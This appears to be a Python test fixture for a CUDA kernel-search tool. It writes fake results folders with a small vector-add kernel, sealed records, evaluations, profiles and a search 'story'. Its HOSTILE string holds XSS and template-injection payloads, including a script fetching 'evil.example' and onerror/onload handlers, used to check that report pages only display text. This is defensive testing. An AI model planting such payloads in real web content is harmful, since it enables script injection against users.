"""A results folder with kernels in it, as searches would have stored them; nothing was compiled."""

import json
from pathlib import Path
from typing import Any

from cudamaster.store.codec import Json, encode
from cudamaster.store.results import digest_of, folder_of, sealed
from cudamaster.toolchain.profile import HotLine, KernelProfile, Launch, Profile
from cudamaster.toolchain.timing import Clock
from mskernelbench.catalog import find_operator, load_operator
from mskernelbench.errors import UnknownOperator
from mskernelbench.evaluation import Evaluation, Interval, Status, WorkloadResult
from mskernelbench.operator import Precision
from mskernelbench.ratios import over_all

KERNEL = """// two values a thread
#include <cuda_runtime.h>

__global__ void twice(float* z, const float* x, const float* y, int n) {
    int i = 2 * (blockIdx.x * blockDim.x + threadIdx.x);
    if (i < n) z[i] = x[i] + y[i];
}
"""
HOSTILE = (
    "</code></pre></style></script><script>document.title='owned'; fetch('http://evil.example/')</script>"
    "<img src=x onerror=\"document.title='owned'\"><svg onload=alert(1)>"
    "{{ 7*7 }}{% raw %} &lt; \u2028\u202e\x00\" ' ` ]]> --> ${7*7} javascript:alert(1)"
)
"""Text that no page may do anything with but show it."""
SHAPES = (("paper", 1024, 1.5), ("paper", 1 << 20, 0.8), ("real", 1 << 24, 3.0))
"""Set, size and speedup of each timed workload."""


def store(results: Path, kernel: str = KERNEL, *, text: str = "as planned", **changes: Any) -> Path:
    """Store a kernel of `vector_add` with its record and its story; the folder.

    Every text of the record and the story is `text`; `changes` are made to the record before it is sealed.
    """
    record = record_of(kernel, text) | changes
    folder = folder_of(results, record["device"], record["operator"], record["precision"])
    folder.mkdir(parents=True)
    (folder / "kernel.cu").write_text(kernel)
    (folder / "record.json").write_text(json.dumps(sealed(record)))
    (folder / "story.json").write_text(json.dumps(story_of_kernel(kernel, text)))
    return folder


def record_of(kernel: str, text: str = "as planned", operator: str = "vector_add") -> Json:
    """A record that says `text` wherever it has something to say."""
    return {
        "schema": "cudamaster.record/1",
        "operator": operator,
        "precision": "fp32",
        "device": "virtual:h200",
        "clock": "modelled",
        "clock_version": "model 1",
        "kernel_sha256": digest_of(kernel),
        "baseline_sha256": digest_of(baseline_of(operator)),
        "evaluation": evaluation(text, operator).document(),
        "strategy": text,
        "model": text,
        "change": text,
        "reason": text,
        "lesson": text,
        "seed": 0,
        "run": text,
        "settings": {"shapes": []},
        "versions": {"nvcc": text},
        "command": text,
        "time": text,
    }


def baseline_of(operator: str) -> str:
    """The operator's baseline; that of none where nobody knows it."""
    try:
        return find_operator(operator).operator.baseline(Precision.FP32)
    except UnknownOperator:
        return ""


def evaluation(reason: str, operator: str = "vector_add", clock: str = "modelled") -> Evaluation:
    """A verdict on all of SHAPES."""
    rows = [
        WorkloadResult(
            name, {"N": size}, 0.5, 1.0, 1 / gain, Interval(gain, gain * 0.9, gain * 1.1), 0.4, "memory"
        )
        for name, size, gain in SHAPES
    ]
    return Evaluation(
        operator=operator,
        precision="fp32",
        entry="vector_add",
        device="virtual:h200",
        clock=clock,
        status=Status.CORRECT,
        reason=reason,
        seed=1,
        speedup=over_all([row.speedup for row in rows if row.speedup], Clock(clock)),
        attainment=0.4,
        workloads=(WorkloadResult("check", {"N": 1}, 0.25), *rows),
    )


def profile(name: str, dram_throughput: float) -> Profile:
    """A call of one kernel, whose second line is hot."""
    metrics = {"dram_throughput": dram_throughput, "global_load_sectors_per_request": 4.0}
    hot = (HotLine(2, 0.97, "global loads, 32 sectors/request"),)
    launch = Launch((1, 1, 1), (256, 1, 1), 0)
    kernel = KernelProfile(name, launch, 1, 1.0, metrics, "memory", f"DRAM, says {name}", hot)
    return Profile(Clock.MODELLED, (kernel,))


def story_of_kernel(kernel: str, text: str) -> Json:
    """A story of two candidates: one refused, one the best."""
    figures = {"speedup": {"geomean": 1.5, "low": 1.4, "high": 1.6}, "attainment": 0.4}
    about: Json = {"strategy": text, "parameters": {}, "change": text, "reason": text, "parent": 0}
    told = {"lesson": text, "kernel_sha256": digest_of(kernel), "advantage": 0.5}
    won = about | told | {"number": 2, "reward": 0.6, "predicted": {"metric": text, "direction": text}}
    lost = about | told | {"number": 1, "reward": -1.5, "verdict": {"status": "wrong", "reason": text}}
    lost |= {"mends": [{"status": "build_failed", "reason": text, "mended": True}]}
    won |= {"verdict": {"status": "correct", "reason": text} | figures}
    won |= {"end": won["verdict"] | {"workloads": 3}}
    diagnosis = {"of": 0, "bound": "memory", "sentence": text}
    return {
        "schema": "cudamaster.story/1",
        **dict.fromkeys(("run", "operator", "precision", "model", "device", "clock"), text),
        "clock_version": text,
        "asked": {"rounds": 1, "candidates": 2, "search": "refine", "seed": 0},
        "started": "2026-01-01T00:00:00+00:00",
        "seconds": 12.5,
        "state": "finished",
        "stopped_by": "rounds",
        "rounds": [{"round": 1, "planned": 2, "diagnoses": [diagnosis], "candidates": [lost, won]}],
        "champion": {"number": 2, "kernel_sha256": digest_of(kernel)} | {"speedup": figures["speedup"]},
        "profiled": text,
        "profiles": {
            "baseline": encode(profile(text, 50.0)),
            "champion": encode(profile(text, 90.0)),
        },
    }


def baseline() -> str:
    """The code before."""
    return load_operator("vector_add").baseline(Precision.FP32)
